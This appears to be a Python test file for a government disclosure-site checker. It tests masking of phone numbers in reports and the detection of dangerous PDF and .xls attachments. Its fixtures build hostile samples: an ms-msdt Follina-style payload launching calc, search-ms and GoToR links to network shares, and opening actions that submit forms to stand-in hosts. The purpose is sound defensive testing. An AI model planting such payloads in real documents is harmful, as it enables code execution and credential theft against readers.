"""Round seventeen of the adversarial review (issue 24): a careless or hostile editor, an importing webmaster, a
compromised department CI job. Each test goes through the real `disclosure` command and failed on main before its fix.

Internal reports (office/report.py, importer/report.py) —
- fixed: a document's title holding a mobile or ID number (a withheld 依申请公开 notice titled after the person it
  concerns) was written as it is into `disclosure report`'s HTML, JSON and CSV (and the --summary a pull request
  shows), while the check names the same number masked (E400). Every text the report prints (titles, notes, list
  names) now shows the number masked as the E400 and I400 lines do (139****5678); the file's path, the page's URL and
  the anchors stay, so the office still finds the document. The example's, the platform's and a 1,000-document
  site's reports are byte-identical to main's.
- fixed: the same of `disclosure import --report` (.md .csv .json): an old page's title, and the repairs, left-out
  lines and flags the report quotes, are masked; the source and target paths stay.
- held (tried): a title or 文号 starting with = or @ in the report's CSVs (prefixed with '); a file named after a mobile
  number (E400 on the file name; the report keeps the path, by decision: it is how the document is found);
  `disclosure new --title` with a line break and ---, or ../ (quoted in YAML; the file is named by its 索引号).

PDF actions run with no click (privacy/attachment_pdf.py) —
- fixed: round sixteen took a Launch action on opening only. A script (JavaScript) in the catalog's OpenAction (or
  one it chains by /Next), a page's AA on opening, an annotation's on its page showing, the document's before saving
  or printing, or the document-level scripts of its Names tree, is E401; a URI fetched or a form submitted on opening,
  or a file opened on a share or at an address (GoToR to \\\\host\\…, the BadPDF sign-in leak), is E404. Going to a page
  on opening, a file beside the document, and a form field's keystroke and calculation scripts stay.
- fixed: a link whose click runs JavaScript (PDFium calls it an unsupported action, as a Named or ResetForm one), as
  a page's onclick is E401; read from the link's object.
- open: a form's push button whose click runs a script (a form's 打印 or 重置 button: left, as a form field's
  scripts); a page's /C script on closing (the same key as a field's calculation); a /Next list of inline actions.

.xls hyperlinks (privacy/attachment_parts.py) —
- fixed: a cell's hyperlink made by Insert→Hyperlink (an HLINK record, not =HYPERLINK) to ms-msdt:, search-ms: or a
  program file had no line; its URL or file moniker is now read (E401). Web, mail and a file beside it stay.
- held (tried): `disclosure check --format github` with a file name holding a line break and ::notice (escaped).

The merge (platform/merge.py) reads a unit's sealed attachments with the same readers: a unit's PDF run on opening
and its .xls cell linking to ms-msdt: are now E700 there too.
"""

from __future__ import annotations

import sys
from pathlib import Path

import pytest

from .sitekit import _run, front_matter, paired_policy, policy, write_site
from .test_build_end import platform  # noqa: F401  (the fixture)


def _report(root: Path):
    return _run([sys.executable, "-m", "disclosure.cli.main", "report", "--output", "report"], root, None)


def test_the_office_report_prints_no_personal_number_of_a_title(tmp_path):
    files = {**paired_policy(),
             "notices/w.md": front_matter("正文。\n", title="关于张三（13912345678）投诉的处理意见", type="notice",
                                          index_no="T001/2024-00009", published="2024-03-05",
                                          disclosure="依申请公开", reason="涉及个人隐私")}
    root = write_site(tmp_path / "site", files)
    done = _report(root)
    written = {path.name: path.read_text(encoding="utf-8") for path in (root / "report").glob("*.*")}
    assert written, done.stderr
    for name, text in written.items():
        assert "13912345678" not in text, name
    html = written["office-report.html"]
    assert "139****5678" in html and "notices/w.md" in html


def _pdf_link(action: str) -> bytes:
    from .attachmentkit import raw_pdf
    return raw_pdf("Notice text", annotations=f"<< /Type /Annot /Subtype /Link /Rect [10 10 200 40] /P 3 0 R /A {action} >>")


def _pdf_opening(entry: str, extra: str = "", page: str = "") -> bytes:
    """A PDF whose catalog holds `entry` (an OpenAction, Names), its page `page` (an AA), and object 9 `extra`:
    PDFium reads the file though its offsets moved."""
    from .attachmentkit import raw_pdf
    data = raw_pdf("Notice text").replace(b"/Type /Catalog", b"/Type /Catalog " + entry.encode(), 1)
    data = data.replace(b"/Type /Page /Parent", f"/Type /Page {page} /Parent".encode(), 1)
    return data.replace(b"xref", f"9 0 obj\n{extra}\nendobj\nxref".encode(), 1) if extra else data


def _pdf_packed_opening(action: bytes) -> bytes:
    """A PDF whose OpenAction names object 9, packed compressed in an object stream (as Acrobat and Word save)."""
    from .attachmentkit import with_packed_object
    return with_packed_object(_pdf_opening("/OpenAction 9 0 R"), action)


OPENING_RUNS = {   # E401: runs a script on opening (Acrobat, WPS and Foxit run it)
    "open-js.pdf": _pdf_opening("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
    "open-js-ref.pdf": _pdf_opening("/OpenAction 9 0 R", "<< /S /Java#53cript /JS (this.print\\(\\)) >>"),
    "names-js.pdf": _pdf_opening("/Names << /JavaScript << /Names [(a) 9 0 R] >> >>",
                                 "<< /S /JavaScript /JS (app.launchURL\\('https://x.example.invalid/'\\)) >>"),
    "page-open-js.pdf": _pdf_opening("", page="/AA << /O << /S /JavaScript /JS (1) >> >>"),
    "next-js.pdf": _pdf_opening("/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (1) >> >>"),
    "open-js-packed.pdf": _pdf_packed_opening(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"),
    "click-js.pdf": _pdf_link("<< /S /JavaScript /JS (app.launchURL\\('https://x.example.invalid/'\\)) >>"),
}
OPENING_FETCHES = {   # E404: asks another host on opening
    "open-uri.pdf": _pdf_opening("/OpenAction << /S /URI /URI (https://track.example.invalid/opened) >>"),
    "open-submit.pdf": _pdf_opening("/OpenAction 9 0 R",
                                    "<< /S /SubmitForm /F << /FS /URL /F (https://collect.example.invalid/in) >> >>"),
    "page-open-uri.pdf": _pdf_opening("", page="/AA << /O << /S /URI /URI (https://track.example.invalid/p) >> >>"),
    "open-share.pdf": _pdf_opening("/OpenAction << /S /GoToR /F (\\\\\\\\files.example.invalid\\\\s\\\\a.pdf) /D [0 /Fit] >>"),
}
OPENING_KEPT = {
    "open-page.pdf": _pdf_opening("/OpenAction [3 0 R /Fit] /PageLabels << /Nums [0 << /S /D >>] >>"),
    "open-goto.pdf": _pdf_opening("/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"),
    "open-beside.pdf": _pdf_opening("/OpenAction << /S /GoToR /F (annex.pdf) /D [0 /Fit] >>"),
    "click-web.pdf": _pdf_link("<< /S /URI /URI (https://www.gov.cn/) >>"),
    # A form field's keystroke and calculation scripts run as the reader types, not on opening.
    "field-scripts.pdf": _pdf_opening("", page="/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>",
                                      extra="<< /FT /Tx /T (amount) /AA << /K << /S /JavaScript /JS "
                                            "(AFNumber_Keystroke\\(2\\)) >> /C << /S /JavaScript /JS (1) >> >> >>"),
}


def test_a_pdf_action_run_on_opening_that_scripts_or_fetches_is_refused(tmp_path):
    """Round sixteen took a Launch action run on opening (E401) and left open the OpenAction, the page's AA and the
    document's scripts (Names/JavaScript) that run JavaScript (E401) or ask another host (a URI, a SubmitForm: E404)
    with no click: published with no line. Opening the document on its first page stays."""
    from .sitekit import check
    attachments = {**OPENING_RUNS, **OPENING_FETCHES, **OPENING_KEPT}
    source = policy(attachments=[{"file": f"files/{name}", "title": name} for name in attachments])
    root = write_site(tmp_path, {**paired_policy(), "policies/a.md": source,
                                 **{f"policies/files/{name}": data for name, data in attachments.items()}})
    lines = check(root).coded_lines()
    assert {name for name in attachments for line in lines if f" E401 附件“{name}”" in line} == set(OPENING_RUNS), lines
    assert {name for name in attachments for line in lines if f" E404 附件“{name}”" in line} == set(OPENING_FETCHES), lines
    assert [line for line in lines if " E401 " not in line and " E404 " not in line] == [], lines


def _xls_hyperlink(target: str, as_file: bool = False) -> bytes:
    """An Excel 97–2003 workbook whose cell A2 has a hyperlink (Insert→Hyperlink), as Excel saves one: an HLINK record
    in the sheet holding a URL moniker, or a file moniker for a path; xlwt writes the rest."""
    import io
    import struct

    import xlwt
    from xlwt.CompoundDoc import XlsDoc
    workbook = xlwt.Workbook()
    sheet = workbook.add_sheet("名单")
    sheet.write(0, 0, "姓名")
    sheet.write(1, 0, "点此查看")
    stream = bytearray(workbook.get_biff_data())
    shown = "点此查看\0".encode("utf-16-le")
    if as_file:
        wide = target.encode("utf-16-le")
        moniker = (bytes.fromhex("0303000000000000c000000000000046") + struct.pack("<HI", 0, 1) + b"\0"
                   + struct.pack("<HH", 0xFFFF, 0xDEAD) + bytes(20) + struct.pack("<IIH", len(wide) + 6, len(wide), 3) + wide)
    else:
        url = (target + "\0").encode("utf-16-le")
        moniker = bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b") + struct.pack("<I", len(url)) + url
    body = (struct.pack("<HHHH", 1, 1, 0, 0) + bytes.fromhex("d0c9ea79f9bace118c8200aa004ba90b")
            + struct.pack("<II", 2, 0x17) + struct.pack("<I", len(shown) // 2) + shown + moniker)
    record = struct.pack("<HH", 0x01B8, len(body)) + body
    end = len(stream) - 4   # the last sheet's EOF: nothing after it moves
    assert struct.unpack_from("<HH", stream, end) == (0x000A, 0)
    stream[end:end] = record
    out = io.BytesIO()
    XlsDoc().save(out, bytes(stream))
    return out.getvalue()


XLS_STARTING = {
    "msdt.xls": _xls_hyperlink('ms-msdt:/id PCWDiagnostic /skip force /param "IT_BrowseForFile=calc"'),
    "search-ms.xls": _xls_hyperlink("search-ms:query=a&crumb=location:\\\\files.example.invalid\\s"),
    "calc.xls": _xls_hyperlink("C:\\Windows\\System32\\calc.exe", as_file=True),
}
XLS_LINKING = {
    "web.xls": _xls_hyperlink("https://www.gov.cn/"),
    "mail.xls": _xls_hyperlink("mailto:xxgk@example.gov.cn"),
    "sibling.xls": _xls_hyperlink("附件二.xls", as_file=True),
}


def test_an_xls_cell_hyperlink_starting_a_program_is_refused(tmp_path):
    """An .xls cell's hyperlink (an HLINK record: Insert→Hyperlink, not =HYPERLINK) to ms-msdt:, search-ms: or a
    program file had no line (round sixteen read formulas and DDE links only): now E401 as in an .xlsx. Web, mail and
    a link to a file beside it stay."""
    from .sitekit import check
    attachments = {**XLS_STARTING, **XLS_LINKING}
    source = policy(attachments=[{"file": f"files/{name}", "title": name} for name in attachments])
    root = write_site(tmp_path, {**paired_policy(), "policies/a.md": source,
                                 **{f"policies/files/{name}": data for name, data in attachments.items()}})
    lines = check(root).coded_lines()
    assert {name for name in attachments for line in lines if f" E401 附件“{name}”" in line} == set(XLS_STARTING), lines
    assert [line for line in lines if " E401 " not in line] == [], lines


def test_the_import_report_prints_no_personal_number_of_a_page(tmp_path):
    """The importing webmaster's side: an old page titled after the person it answers, the number in its title and
    body. The imported file is refused by the check (E400, masked), but the import's own report (--report, .md .csv
    .json) wrote the title as it is. Now the number is masked there too; the page's paths stay."""
    from .test_import import CMS_CATALOGUE, run_import
    root = write_site(tmp_path / "site", {}, catalogue=CMS_CATALOGUE)
    page = root / "old" / "a.html"
    page.parent.mkdir()
    page.write_text('<html><head><meta charset="utf-8"><title>关于张三（13912345678）投诉的答复</title></head><body>'
                    "<h1>关于张三（13912345678）投诉的答复</h1><div class=\"content\"><p>张三：你好。来电 13912345678 "
                    "反映的问题已处理。</p></div></body></html>", encoding="utf-8")
    for suffix in (".md", ".csv", ".json"):
        done = run_import(root, "old/a.html", "--type", "notice", "--category", "other", "--dry-run",
                          "--report", f"import{suffix}")
        text = (root / f"import{suffix}").read_text(encoding="utf-8")
        assert "13912345678" not in text, (suffix, done.stderr)
        assert "关于张三（139****5678）投诉的答复" in text and "old/a.html" in text, suffix


UNIT_ATTACHMENTS = ["open-js.pdf", "open-uri.pdf", "msdt.xls"]


@pytest.fixture(scope="module")
def unit_attachments(merged_platform, tmp_path_factory):
    """Every case's attachment (a file of its own) in the unit's output, sealed and merged once."""
    from .batchkit import sealed_once
    return sealed_once(merged_platform, tmp_path_factory.mktemp("unit-attachments"), "jyj", {
        f"jyj/guide/files/{name}": {**OPENING_RUNS, **OPENING_FETCHES, **XLS_STARTING}[name] for name in UNIT_ATTACHMENTS})


@pytest.mark.parametrize("name", UNIT_ATTACHMENTS)
def test_a_unit_attachment_run_on_opening_is_refused_by_the_merge(unit_attachments, name):
    """The compromised job's side: a PDF of its own output (listed and sealed) that runs a script or fetches an
    address on opening, an .xls whose cell links to ms-msdt:. The merge refuses it (E700) naming the unit and the
    file, the same reader as the unit's own build (E401, E404)."""
    unit_attachments.refused(f"build/units/jyj/jyj/guide/files/{name}:1: E700 ")
